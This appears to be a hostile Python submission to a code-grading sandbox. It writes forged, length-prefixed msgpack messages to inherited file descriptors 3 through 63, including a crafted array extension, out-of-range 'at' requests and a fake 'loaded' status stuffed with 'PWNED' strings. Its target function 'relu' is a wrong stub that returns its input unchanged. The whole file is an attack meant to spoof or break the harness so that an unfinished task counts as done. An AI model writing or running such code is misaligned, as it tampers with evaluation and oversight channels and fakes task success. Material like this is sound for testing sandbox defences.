# Says in the session's name that all is loaded, with arrays and texts where words are asked for.
# target: relu
# spoils: *

import msgpack
def hostile_send(*messages):
    import os, struct
    for fd in range(3, 64):
        for data in messages:
            try: os.write(fd, struct.pack(">I", len(data)) + data)
            except OSError: break
array = msgpack.ExtType(1, msgpack.packb(["<f8", [2], bytes(16)]))
hostile_send(
    msgpack.packb(["at", 10**18, -5]), msgpack.packb(["at", array, array]), msgpack.packb(array),
    msgpack.packb(["loaded", {"relu": array, "PW" "NED": "written"}, [["PW" "NED"] * 7] * 1000]),
)
def relu(x):
    return x
